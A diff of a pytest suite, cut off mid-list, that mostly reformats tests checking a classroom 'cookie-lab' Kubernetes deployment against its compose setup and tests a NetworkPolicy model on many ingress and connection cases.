@@ -13,6 +13,7 @@ import sys
 from dataclasses import dataclass, field
 from pathlib import Path
 
+import lab_launch
 import pytest
 import yaml
 from helpers import LAB, ROOT, SERVICES, exercises
@@ -26,7 +27,9 @@ LEARNERS = ["Ada Lovelace", "Zoë Ünal", "Ada Lovelace"]
 
 
 def render(folder: Path) -> list[dict]:
-    proc = subprocess.run([str(BIN / "kubectl"), "kustomize", str(folder)], capture_output=True, text=True, timeout=120)
+    proc = subprocess.run(
+        [str(BIN / "kubectl"), "kustomize", str(folder)], check=False, capture_output=True, text=True, timeout=120
+    )
     assert proc.returncode == 0, proc.stderr
     return [doc for doc in yaml.safe_load_all(proc.stdout) if doc]
 
@@ -34,18 +37,38 @@ def render(folder: Path) -> list[dict]:
 def validate(objects: list[dict], tmp_path: Path) -> subprocess.CompletedProcess:
     rendered = tmp_path / "rendered.yaml"
     rendered.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
-    return subprocess.run([str(BIN / "kubernetes-validate"), "--strict", "-k", KUBERNETES, "--quiet", str(rendered)],
-                          capture_output=True, text=True, timeout=300)
+    return subprocess.run(
+        [str(BIN / "kubernetes-validate"), "--strict", "-k", KUBERNETES, "--quiet", str(rendered)],
+        check=False,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
 
 
 def make_class(tmp_path: Path, names: list[str], *extra: str) -> subprocess.CompletedProcess:
     tmp_path.mkdir(parents=True, exist_ok=True)
     learners = tmp_path / "learners.txt"
     learners.write_text("\n".join(names) + "\n", encoding="utf-8")
-    return subprocess.run([sys.executable, str(CLASS), "create", str(learners), "--domain", "lab.example.org",
-                           "--site-domain", "other.example.net", "--out", str(tmp_path / "class"),
-                           *(extra or ("--registry", "registry.example.org/class"))],
-                          capture_output=True, text=True, timeout=120)
+    return subprocess.run(
+        [
+            sys.executable,
+            str(CLASS),
+            "create",
+            str(learners),
+            "--domain",
+            "lab.example.org",
+            "--site-domain",
+            "other.example.net",
+            "--out",
+            str(tmp_path / "class"),
+            *(extra or ("--registry", "registry.example.org/class")),
+        ],
+        check=False,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
 
 
 @pytest.fixture(scope="module")
@@ -78,8 +101,12 @@ def test_a_three_learner_class_renders_and_validates_strictly(klass, tmp_path):
 
 def test_the_registry_prefix_is_set_once_for_every_image(klass):
     objects, _, folder = klass
-    images = {c["image"] for o in objects if o["kind"] in ("Deployment", "Job")
-              for c in o["spec"]["template"]["spec"]["containers"]}
+    images = {
+        c["image"]
+        for o in objects
+        if o["kind"] in ("Deployment", "Job")
+        for c in o["spec"]["template"]["spec"]["containers"]
+    }
     assert images == {f"registry.example.org/class/cookie-lab/{i}:2026-11" for i in ("app", "proxy", "site", "client")}
     assert (folder / "kustomization.yaml").read_text().count("registry.example.org/class") == 4
 
@@ -92,8 +119,12 @@ SERVICES_OF = {name: service for name, service in COMPOSE["services"].items()}
 
 def workload(objects: list[dict], name: str) -> dict:
     """The Deployment or Job holding the container of a compose service's name (the board is in the proxy's pod)."""
-    return next(o for o in objects if o["kind"] in ("Deployment", "Job")
-                and any(c["name"] == name for c in o["spec"]["template"]["spec"]["containers"]))
+    return next(
+        o
+        for o in objects
+        if o["kind"] in ("Deployment", "Job")
+        and any(c["name"] == name for c in o["spec"]["template"]["spec"]["containers"])
+    )
 
 
 def container(objects: list[dict], name: str) -> dict:
@@ -142,7 +173,7 @@ def test_ports_match_the_published_ports_and_the_images(base, service):
     ports = {p["containerPort"] for p in container(base, service).get("ports", [])}
     published = {int(p.rsplit(":", 1)[1]) for p in SERVICES_OF[service].get("ports", [])}
     assert published <= ports
-    exposed = {int(p) for line in re.findall(r"^EXPOSE (.+)$", dockerfile(service), re.M) for p in line.split()}
+    exposed = {int(p) for line in re.findall(r"^EXPOSE (.+)$", dockerfile(service), re.MULTILINE) for p in line.split()}
     if service != "client":  # the client's image exposes the board's port; its Job listens on none
         assert ports == exposed
 
@@ -165,8 +196,10 @@ CLUSTER_ONLY_ARGS = {"proxy": ["--set", "lab_trust_forwarded_proto=true"]}
 
 @pytest.mark.parametrize("service", list(SERVICES_OF))
 def test_arguments_match_the_compose_command(base, service):
-    compose = [re.sub(r"\$\{LAB_WEB_PASSWORD[^}]*\}", "$(LAB_WEB_PASSWORD)", re.sub(r"\$\{(\w+):-([^}]*)\}", r"\2", a))
-               for a in SERVICES_OF[service].get("command", [])]
+    compose = [
+        re.sub(r"\$\{LAB_WEB_PASSWORD[^}]*\}", "$(LAB_WEB_PASSWORD)", re.sub(r"\$\{(\w+):-([^}]*)\}", r"\2", a))
+        for a in SERVICES_OF[service].get("command", [])
+    ]
     args = resolved_args(container(base, service))
     # The Job waits longer for the proxy than compose's client, which depends_on its health.
     assert (args[:-2] if service == "client" else args) == compose + CLUSTER_ONLY_ARGS.get(service, [])
@@ -177,12 +210,22 @@ def healthcheck(service: str) -> dict:
     """A service's health check: compose's own, else its image's HEALTHCHECK."""
     if "healthcheck" in SERVICES_OF[service]:
         check = SERVICES_OF[service]["healthcheck"]
-        return {"command": check["test"][1:], "interval": check["interval"], "timeout": check["timeout"],
-                "retries": check["retries"], "start_period": check["start_period"]}
-    match = re.search(r"^HEALTHCHECK (.*?)\\\n\s+CMD (\[.*\])$", dockerfile(service), re.M)
+        return {
+            "command": check["test"][1:],
+            "interval": check["interval"],
+            "timeout": check["timeout"],
+            "retries": check["retries"],
+            "start_period": check["start_period"],
+        }
+    match = re.search(r"^HEALTHCHECK (.*?)\\\n\s+CMD (\[.*\])$", dockerfile(service), re.MULTILINE)
     options = dict(re.findall(r"--([\w-]+)=(\S+)", match.group(1)))
-    return {"command": json.loads(match.group(2)), "interval": options["interval"], "timeout": options["timeout"],
-            "retries": int(options["retries"]), "start_period": options["start-period"]}
+    return {
+        "command": json.loads(match.group(2)),
+        "interval": options["interval"],
+        "timeout": options["timeout"],
+        "retries": int(options["retries"]),
+        "start_period": options["start-period"],
+    }
 
 
 @pytest.mark.parametrize("service", ["app", "proxy", "site", "progress"])
@@ -197,10 +240,13 @@ def test_probes_check_what_the_health_checks_check(base, service):
             get = c[kind]["httpGet"]
             assert (ports[get["port"]], get["path"]) == (int(url.group(1)), url.group(2))
     else:  # the proxy: ready by the image's own check; alive when the UI's port, which that check opens, opens
-        assert c["readinessProbe"]["exec"]["command"] == want["command"]
-        ui = int(re.search(r"create_connection\(\('127\.0\.0\.1', (\d+)\)", want["command"][2]).group(1))
+        assert (
+            c["readinessProbe"]["exec"]["command"]
+            == want["command"]
+            == ["python", "/srv/proxy/lab_launch.py", "--health"]
+        )
         for kind in ("startupProbe", "livenessProbe"):
-            assert ports[c[kind]["tcpSocket"]["port"]] == ui
+            assert ports[c[kind]["tcpSocket"]["port"]] == lab_launch.WEB_PORT
     seconds = {key: int(want[key].rstrip("s")) for key in ("interval", "start_period")}
     startup, live = c["startupProbe"], c["livenessProbe"]
     assert startup["failureThreshold"] * startup["periodSeconds"] >= seconds["start_period"]
@@ -218,16 +264,25 @@ def test_limits_match_and_requests_fit_under_them(base, service):
 
 @pytest.mark.parametrize("service", list(SERVICES_OF))
 def test_every_pod_is_hardened_as_in_compose(base, service):
-    user = re.findall(r"^USER (\d+):(\d+)$", dockerfile(service), re.M)[-1]
+    user = re.findall(r"^USER (\d+):(\d+)$", dockerfile(service), re.MULTILINE)[-1]
     spec = workload(base, service)["spec"]["template"]["spec"]
     pod, c = spec["securityContext"], container(base, service)["securityContext"]
     assert (pod["runAsNonRoot"], str(pod["runAsUser"]), str(pod["runAsGroup"])) == (True, *user)
     assert pod["seccompProfile"] == {"type": "RuntimeDefault"}
-    assert c == {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "privileged": False,
-                 "capabilities": {"drop": ["ALL"]}}
+    assert c == {
+        "allowPrivilegeEscalation": False,
+        "readOnlyRootFilesystem": True,
+        "privileged": False,
+        "capabilities": {"drop": ["ALL"]},
+    }
     # compose: cap_drop ALL, no-new-privileges, read_only, and a tmpfs at /tmp.
     hardened = COMPOSE["x-hardened"]
-    assert hardened == {"cap_drop": ["ALL"], "security_opt": ["no-new-privileges:true"], "read_only": True, "tmpfs": ["/tmp"]}
+    assert hardened == {
+        "cap_drop": ["ALL"],
+        "security_opt": ["no-new-privileges:true"],
+        "read_only": True,
+        "tmpfs": ["/tmp"],
+    }
     mounts = {m["mountPath"]: m for m in container(base, service).get("volumeMounts", [])}
     volumes = {v["name"]: v for v in spec["volumes"]}
     assert "emptyDir" in volumes[mounts["/tmp"]["name"]]
@@ -238,8 +293,11 @@ def test_every_pod_is_hardened_as_in_compose(base, service):
 def test_the_captures_volume_is_writable_for_the_proxy_alone(base, service):
     """As in compose; the client Job only runs the seed, which reads neither captures nor the index."""
     compose = {v.split(":")[1]: not v.endswith(":ro") for v in SERVICES_OF[service].get("volumes", [])}
-    mounts = {m["mountPath"]: not m.get("readOnly", False) for m in container(base, service).get("volumeMounts", [])
-              if m["mountPath"] != "/tmp"}
+    mounts = {
+        m["mountPath"]: not m.get("readOnly", False)
+        for m in container(base, service).get("volumeMounts", [])
+        if m["mountPath"] != "/tmp"
+    }
     # compose mounts the one file /lab/exercises.toml; here the ConfigMap is the folder /lab.
     compose = {("/lab" if path == "/lab/exercises.toml" else path): rw for path, rw in compose.items()}
     assert mounts == compose
@@ -283,6 +341,7 @@ def test_each_compose_volume_has_its_kind_on_the_cluster(base):
 #   - A connection needs the source's egress and the destination's ingress to allow it.
 # ipBlock is left out: the model knows no pod addresses, so it refuses a policy that has one.
 
+
 @dataclass
 class Pod:
     """A pod as NetworkPolicies see it: its namespace, its labels, its containers' ports (name, number, protocol)."""
@@ -315,17 +374,28 @@ def selects(selector: dict, labels: dict) -> bool:
 
 def namespace_labels(objects: list[dict]) -> dict[str, dict]:
     # The API server adds kubernetes.io/metadata.name to every namespace.
-    return {o["metadata"]["name"]: {**o["metadata"].get("labels", {}), "kubernetes.io/metadata.name": o["metadata"]["name"]}
-            for o in objects if o["kind"] == "Namespace"}
+    return {
+        o["metadata"]["name"]: {**o["metadata"].get("labels", {}), "kubernetes.io/metadata.name": o["metadata"]["name"]}
+        for o in objects
+        if o["kind"] == "Namespace"
+    }
 
 
 def pods(objects: list[dict], namespace: str) -> dict[str, Pod]:
     """The pods of the Deployments and Jobs in namespace, by workload name, with every container's ports."""
-    return {o["metadata"]["name"]: Pod(namespace, o["spec"]["template"]["metadata"]["labels"],
-                                       tuple((p.get("name", ""), p["containerPort"], p.get("protocol", "TCP"))
-                                             for c in o["spec"]["template"]["spec"]["containers"]
-                                             for p in c.get("ports", [])))
-            for o in objects if o["kind"] in ("Deployment", "Job") and o["metadata"]["namespace"] == namespace}
+    return {
+        o["metadata"]["name"]: Pod(
+            namespace,
+            o["spec"]["template"]["metadata"]["labels"],
+            tuple(
+                (p.get("name", ""), p["containerPort"], p.get("protocol", "TCP"))
+                for c in o["spec"]["template"]["spec"]["containers"]
+                for p in c.get("ports", [])
+            ),
+        )
+        for o in objects
+        if o["kind"] in ("Deployment", "Job") and o["metadata"]["namespace"] == namespace
+    }
 
 
 def pod_labels(objects: list[dict], namespace: str) -> dict[str, dict]:
@@ -378,8 +448,14 @@ def permits(objects: list[dict], direction: str, pod: Pod, other: Pod, port: int
     rules_key, peers_key = {"Ingress": ("ingress", "from"), "Egress": ("egress", "to")}[direction]
     destination = pod if direction == "Ingress" else other
     ns_labels = namespace_labels(objects)
-    policies = [o for o in objects if o["kind"] == "NetworkPolicy" and o["metadata"]["namespace"] == pod.namespace
-                and selects(o["spec"].get("podSelector", {}), pod.labels) and direction in policy_types(o["spec"])]
+    policies = [
+        o
+        for o in objects
+        if o["kind"] == "NetworkPolicy"
+        and o["metadata"]["namespace"] == pod.namespace
+        and selects(o["spec"].get("podSelector", {}), pod.labels)
+        and direction in policy_types(o["spec"])
+    ]
     if not policies:
         return True  # not isolated in this direction
     for policy in policies:
@@ -399,19 +475,25 @@ def admits(objects: list[dict], target: Pod, source: Pod, port: int, protocol: s
 
 def connects(objects: list[dict], source: Pod, target: Pod, port: int, protocol: str = "TCP") -> bool:
     """Whether a connection from source to target's port is allowed: the source's egress and the target's ingress."""
-    return permits(objects, "Egress", source, target, port, protocol) and admits(objects, target, source, port, protocol)
+    return permits(objects, "Egress", source, target, port, protocol) and admits(
+        objects, target, source, port, protocol
+    )
 
 
 # The model on known policies. Two namespaces and an unlisted one; "shop" runs web and db.
-WEB = Pod("shop", {"app": "web", "tier": "front"}, (("http", 8080, "TCP"), ("metrics", 9090, "TCP"), ("dns", 5353, "UDP")))
+WEB = Pod(
+    "shop", {"app": "web", "tier": "front"}, (("http", 8080, "TCP"), ("metrics", 9090, "TCP"), ("dns", 5353, "UDP"))
+)
 DB = Pod("shop", {"app": "db"}, (("sql", 5432, "TCP"),))
 SHOP_CLIENT = Pod("shop", {"app": "client"})
 SHOP_ADMIN = Pod("shop", {"role": "admin"})
 STRANGER = Pod("other", {"app": "client"})
 OTHER_ADMIN = Pod("other", {"role": "admin"})
 NOWHERE = Pod("elsewhere", {"app": "client"})
-NAMESPACES = [{"kind": "Namespace", "metadata": {"name": "shop", "labels": {"team": "shop"}}},
-              {"kind": "Namespace", "metadata": {"name": "other", "labels": {"team": "other"}}}]
+NAMESPACES = [
+    {"kind": "Namespace", "metadata": {"name": "shop", "labels": {"team": "shop"}}},
+    {"kind": "Namespace", "metadata": {"name": "other", "labels": {"team": "other"}}},
+]
 DENY_ALL = {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]}
 FRONT = {"matchLabels": {"tier": "front"}}
 
@@ -432,68 +514,264 @@ def peer(pods_: dict | None = None, namespaces: dict | None = None) -> dict:
 INGRESS_CASES = [
     # (id, policies in shop, source, port, protocol, allowed to WEB)
     ("no-policy-allows-all", [], STRANGER, 8080, "TCP", True),
-    ("a-policy-for-another-pod-leaves-web-open", [{"podSelector": {"matchLabels": {"app": "db"}}}], STRANGER, 8080, "TCP", True),
+    (
+        "a-policy-for-another-pod-leaves-web-open",
+        [{"podSelector": {"matchLabels": {"app": "db"}}}],
+        STRANGER,
+        8080,
+        "TCP",
+        True,
+    ),
     ("a-policy-in-another-namespace-leaves-web-open", [("other", DENY_ALL)], STRANGER, 8080, "TCP", True),
     ("deny-all", [DENY_ALL], SHOP_CLIENT, 8080, "TCP", False),
     ("no-policy-types-means-ingress", [{"podSelector": {}}], SHOP_CLIENT, 8080, "TCP", False),
-    ("no-policy-types-with-egress-rules-still-ingress", [{"podSelector": {}, "egress": [{}]}], SHOP_CLIENT, 8080, "TCP", False),
-    ("egress-only-policy-leaves-ingress-open", [{"podSelector": {}, "policyTypes": ["Egress"]}], STRANGER, 8080, "TCP", True),
-    ("ingress-rules-of-an-egress-only-policy-do-nothing",
-     [{"podSelector": {}, "policyTypes": ["Egress"], "ingress": [{"from": [peer({"matchLabels": {"app": "nobody"}})]}]}],
-     STRANGER, 8080, "TCP", True),
-    ("ingress-type-without-rules-denies", [{"podSelector": FRONT, "policyTypes": ["Ingress"]}], SHOP_CLIENT, 8080, "TCP", False),
+    (
+        "no-policy-types-with-egress-rules-still-ingress",
+        [{"podSelector": {}, "egress": [{}]}],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        False,
+    ),
+    (
+        "egress-only-policy-leaves-ingress-open",
+        [{"podSelector": {}, "policyTypes": ["Egress"]}],
+        STRANGER,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "ingress-rules-of-an-egress-only-policy-do-nothing",
+        [
+            {
+                "podSelector": {},
+                "policyTypes": ["Egress"],
+                "ingress": [{"from": [peer({"matchLabels": {"app": "nobody"}})]}],
+            }
+        ],
+        STRANGER,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "ingress-type-without-rules-denies",
+        [{"podSelector": FRONT, "policyTypes": ["Ingress"]}],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        False,
+    ),
     ("rule-without-from-allows-every-source", [ingress({"ports": [{"port": 8080}]})], NOWHERE, 8080, "TCP", True),
     ("rule-with-empty-from-allows-every-source", [ingress({"from": []})], STRANGER, 9090, "TCP", True),
     ("empty-rule-allows-everything", [DENY_ALL, ingress({})], NOWHERE, 5353, "UDP", True),
     ("rule-without-from-keeps-its-ports", [ingress({"ports": [{"port": 8080}]})], NOWHERE, 9090, "TCP", False),
-    ("rule-with-empty-ports-allows-every-port", [ingress({"from": [peer({})], "ports": []})], SHOP_CLIENT, 9090, "TCP", True),
+    (
+        "rule-with-empty-ports-allows-every-port",
+        [ingress({"from": [peer({})], "ports": []})],
+        SHOP_CLIENT,
+        9090,
+        "TCP",
+        True,
+    ),
     ("port-protocol-defaults-to-tcp", [ingress({"ports": [{"port": 5353}]})], SHOP_CLIENT, 5353, "UDP", False),
     ("port-with-udp", [ingress({"ports": [{"port": 5353, "protocol": "UDP"}]})], SHOP_CLIENT, 5353, "UDP", True),
-    ("protocol-without-port-allows-its-every-port", [ingress({"ports": [{"protocol": "UDP"}]})], SHOP_CLIENT, 5353, "UDP", True),
-    ("protocol-without-port-not-another-protocol", [ingress({"ports": [{"protocol": "UDP"}]})], SHOP_CLIENT, 8080, "TCP", False),
+    (
+        "protocol-without-port-allows-its-every-port",
+        [ingress({"ports": [{"protocol": "UDP"}]})],
+        SHOP_CLIENT,
+        5353,
+        "UDP",
+        True,
+    ),
+    (
+        "protocol-without-port-not-another-protocol",
+        [ingress({"ports": [{"protocol": "UDP"}]})],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        False,
+    ),
     ("port-range-inside", [ingress({"ports": [{"port": 8000, "endPort": 8100}]})], SHOP_CLIENT, 8080, "TCP", True),
     ("port-range-outside", [ingress({"ports": [{"port": 8000, "endPort": 8100}]})], SHOP_CLIENT, 9090, "TCP", False),
     ("named-port", [ingress({"ports": [{"port": "http"}]})], SHOP_CLIENT, 8080, "TCP", True),
     ("named-port-is-not-another-port", [ingress({"ports": [{"port": "http"}]})], SHOP_CLIENT, 9090, "TCP", False),
-    ("named-port-keeps-its-protocol", [ingress({"ports": [{"port": "dns", "protocol": "UDP"}]})], SHOP_CLIENT, 5353, "UDP", True),
+    (
+        "named-port-keeps-its-protocol",
+        [ingress({"ports": [{"port": "dns", "protocol": "UDP"}]})],
+        SHOP_CLIENT,
+        5353,
+        "UDP",
+        True,
+    ),
     ("named-port-of-tcp-is-not-the-udp-one", [ingress({"ports": [{"port": "dns"}]})], SHOP_CLIENT, 5353, "UDP", False),
-    ("pod-selector-peer-is-own-namespace", [ingress({"from": [peer({"matchLabels": {"app": "client"}})]})], SHOP_CLIENT, 8080, "TCP", True),
-    ("pod-selector-peer-not-other-namespace", [ingress({"from": [peer({"matchLabels": {"app": "client"}})]})], STRANGER, 8080, "TCP", False),
+    (
+        "pod-selector-peer-is-own-namespace",
+        [ingress({"from": [peer({"matchLabels": {"app": "client"}})]})],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "pod-selector-peer-not-other-namespace",
+        [ingress({"from": [peer({"matchLabels": {"app": "client"}})]})],
+        STRANGER,
+        8080,
+        "TCP",
+        False,
+    ),
     ("empty-pod-selector-is-own-namespace-only", [ingress({"from": [peer({})]})], STRANGER, 8080, "TCP", False),
-    ("namespace-selector-peer", [ingress({"from": [peer(namespaces={"matchLabels": {"team": "other"}})]})], OTHER_ADMIN, 8080, "TCP", True),
-    ("namespace-selector-peer-not-own-namespace", [ingress({"from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
-     SHOP_CLIENT, 8080, "TCP", False),
-    ("empty-namespace-selector-is-every-namespace", [ingress({"from": [peer(namespaces={})]})], NOWHERE, 8080, "TCP", True),
-    ("metadata-name-label-of-an-unlisted-namespace",
-     [ingress({"from": [peer(namespaces={"matchLabels": {"kubernetes.io/metadata.name": "elsewhere"}})]})], NOWHERE, 8080, "TCP", True),
-    ("namespace-and-pod-selector-are-anded",
-     [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})], OTHER_ADMIN, 8080, "TCP", True),
-    ("anded-peer-not-the-pod-alone",
-     [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})], SHOP_ADMIN, 8080, "TCP", False),
-    ("anded-peer-not-the-namespace-alone",
-     [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})], STRANGER, 8080, "TCP", False),
-    ("two-peers-are-ored",
-     [ingress({"from": [peer({"matchLabels": {"role": "admin"}}), peer(namespaces={"matchLabels": {"team": "other"}})]})],
-     SHOP_ADMIN, 8080, "TCP", True),
-    ("from-and-ports-are-anded", [ingress({"from": [peer({"matchLabels": {"app": "client"}})], "ports": [{"port": 8080}]})],
-     SHOP_CLIENT, 9090, "TCP", False),
-    ("policies-add-up-first", [DENY_ALL, ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
-                               ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
-     SHOP_CLIENT, 8080, "TCP", True),
-    ("policies-add-up-second", [DENY_ALL, ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
-                                ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
-     STRANGER, 9090, "TCP", True),
-    ("policies-add-up-not-across-rules", [DENY_ALL, ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
-                                          ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
-     STRANGER, 8080, "TCP", False),
-    ("match-expressions-not-in", [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["client"]}]})]})],
-     SHOP_ADMIN, 8080, "TCP", True),
-    ("match-expressions-not-in-excludes", [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["client"]}]})]})],
-     SHOP_CLIENT, 8080, "TCP", False),
-    ("match-expressions-does-not-exist", [ingress({"from": [peer({"matchExpressions": [{"key": "role", "operator": "DoesNotExist"}]})]})],
-     SHOP_CLIENT, 8080, "TCP", True),
-    ("match-expressions-in-needs-the-key", [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "In", "values": ["client"]}]})]})],
-     SHOP_ADMIN, 8080, "TCP", False),
+    (
+        "namespace-selector-peer",
+        [ingress({"from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
+        OTHER_ADMIN,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "namespace-selector-peer-not-own-namespace",
+        [ingress({"from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        False,
+    ),
+    (
+        "empty-namespace-selector-is-every-namespace",
+        [ingress({"from": [peer(namespaces={})]})],
+        NOWHERE,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "metadata-name-label-of-an-unlisted-namespace",
+        [ingress({"from": [peer(namespaces={"matchLabels": {"kubernetes.io/metadata.name": "elsewhere"}})]})],
+        NOWHERE,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "namespace-and-pod-selector-are-anded",
+        [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})],
+        OTHER_ADMIN,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "anded-peer-not-the-pod-alone",
+        [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})],
+        SHOP_ADMIN,
+        8080,
+        "TCP",
+        False,
+    ),
+    (
+        "anded-peer-not-the-namespace-alone",
+        [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})],
+        STRANGER,
+        8080,
+        "TCP",
+        False,
+    ),
+    (
+        "two-peers-are-ored",
+        [
+            ingress(
+                {
+                    "from": [
+                        peer({"matchLabels": {"role": "admin"}}),
+                        peer(namespaces={"matchLabels": {"team": "other"}}),
+                    ]
+                }
+            )
+        ],
+        SHOP_ADMIN,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "from-and-ports-are-anded",
+        [ingress({"from": [peer({"matchLabels": {"app": "client"}})], "ports": [{"port": 8080}]})],
+        SHOP_CLIENT,
+        9090,
+        "TCP",
+        False,
+    ),
+    (
+        "policies-add-up-first",
+        [
+            DENY_ALL,
+            ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
+            ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]}),
+        ],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "policies-add-up-second",
+        [
+            DENY_ALL,
+            ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
+            ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]}),
+        ],
+        STRANGER,
+        9090,
+        "TCP",
+        True,
+    ),
+    (
+        "policies-add-up-not-across-rules",
+        [
+            DENY_ALL,
+            ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
+            ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]}),
+        ],
+        STRANGER,
+        8080,
+        "TCP",
+        False,
+    ),
+    (
+        "match-expressions-not-in",
+        [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["client"]}]})]})],
+        SHOP_ADMIN,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "match-expressions-not-in-excludes",
+        [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["client"]}]})]})],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        False,
+    ),
+    (
+        "match-expressions-does-not-exist",
+        [ingress({"from": [peer({"matchExpressions": [{"key": "role", "operator": "DoesNotExist"}]})]})],
+        SHOP_CLIENT,
+        8080,
+        "TCP",
+        True,
+    ),
+    (
+        "match-expressions-in-needs-the-key",
+        [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "In", "values": ["client"]}]})]})],
+        SHOP_ADMIN,
+        8080,
+        "TCP",
+        False,
+    ),
 ]
 
 
@@ -502,14 +780,19 @@ def shop_world(policies: list) -> list[dict]:
     return NAMESPACES + [policy(p[1], p[0]) if isinstance(p, tuple) else policy(p) for p in policies]
 
 
-@pytest.mark.parametrize(("policies", "source", "port", "protocol", "allowed"),
-                         [pytest.param(*case[1:], id=case[0]) for case in INGRESS_CASES])
+@pytest.mark.parametrize(
+    ("policies", "source", "port", "protocol", "allowed"),
+    [pytest.param(*case[1:], id=case[0]) for case in INGRESS_CASES],
+)
 def test_the_policy_model_on_known_ingress_policies(policies, source, port, protocol, allowed):
     assert admits(shop_world(policies), WEB, source, port, protocol) is allowed
 
 
-TO_DB = {"podSelector": FRONT, "policyTypes": ["Egress"],
-         "egress": [{"to": [peer({"matchLabels": {"app": "db"}})], "ports": [{"port": "sql"}]}]}
+TO_DB = {
+    "podSelector": FRONT,
+    "policyTypes": ["Egress"],
+    "egress": [{"to": [peer({"matchLabels": {"app": "db"}})], "ports": [{"port": "sql"}]}],
+}
 
 CONNECTION_CASES = [
     # (id, policies in shop, source, target, port, protocol, connected)
@@ -517,20 +800,68 @@ CONNECTION_CASES = [
     ("egress-named-port-is-the-destinations", [TO_DB], WEB, DB, 5432, "TCP", True),
     ("egress-only-to-the-named-port", [TO_DB], WEB, DB, 5433, "TCP", False),
     ("egress-only-to-the-selected-pods", [TO_DB], WEB, SHOP_CLIENT, 5432, "TCP", False),
-    ("egress-not-to-another-namespace", [TO_DB], WEB, Pod("other", {"app": "db"}, (("sql", 5432, "TCP"),)), 5432, "TCP", False),
+    (
+        "egress-not-to-another-namespace",
+        [TO_DB],
+        WEB,
+        Pod("other", {"app": "db"}, (("sql", 5432, "TCP"),)),
+        5432,
+        "TCP",
+        False,
+    ),
     ("egress-of-web-leaves-others-open", [TO_DB], SHOP_CLIENT, STRANGER, 443, "TCP", True),
-    ("no-policy-types-with-egress-rules-means-egress", [{k: v for k, v in TO_DB.items() if k != "policyTypes"}], WEB, SHOP_CLIENT, 80, "TCP", False),
-    ("egress-allowed-but-ingress-denied", [TO_DB, {"podSelector": {"matchLabels": {"app": "db"}}}], WEB, DB, 5432, "TCP", False),
-    ("ingress-allowed-but-egress-denied", [DENY_ALL, ingress({}, selector={"matchLabels": {"app": "db"}})], WEB, DB, 5432, "TCP", False),
-    ("both-sides-allow", [DENY_ALL, TO_DB, ingress({"from": [peer(FRONT)]}, selector={"matchLabels": {"app": "db"}})],
-     WEB, DB, 5432, "TCP", True),
-    ("rule-without-to-allows-every-destination", [{"podSelector": FRONT, "policyTypes": ["Egress"], "egress": [{"ports": [{"port": 53, "protocol": "UDP"}]}]}],
-     WEB, NOWHERE, 53, "UDP", True),
+    (
+        "no-policy-types-with-egress-rules-means-egress",
+        [{k: v for k, v in TO_DB.items() if k != "policyTypes"}],
+        WEB,
+        SHOP_CLIENT,
+        80,
+        "TCP",
+        False,
+    ),
+    (
+        "egress-allowed-but-ingress-denied",
+        [TO_DB, {"podSelector": {"matchLabels": {"app": "db"}}}],
+        WEB,
+        DB,
+        5432,
+        "TCP",
+        False,
+    ),
+    (
+        "ingress-allowed-but-egress-denied",
+        [DENY_ALL, ingress({}, selector={"matchLabels": {"app": "db"}})],
+        WEB,
+        DB,
+        5432,
+        "TCP",
+        False,
+    ),
+    (
+        "both-sides-allow",
+        [DENY_ALL, TO_DB, ingress({"from": [peer(FRONT)]}, selector={"matchLabels": {"app": "db"}})],
+        WEB,
+        DB,
+        5432,
+        "TCP",
+        True,
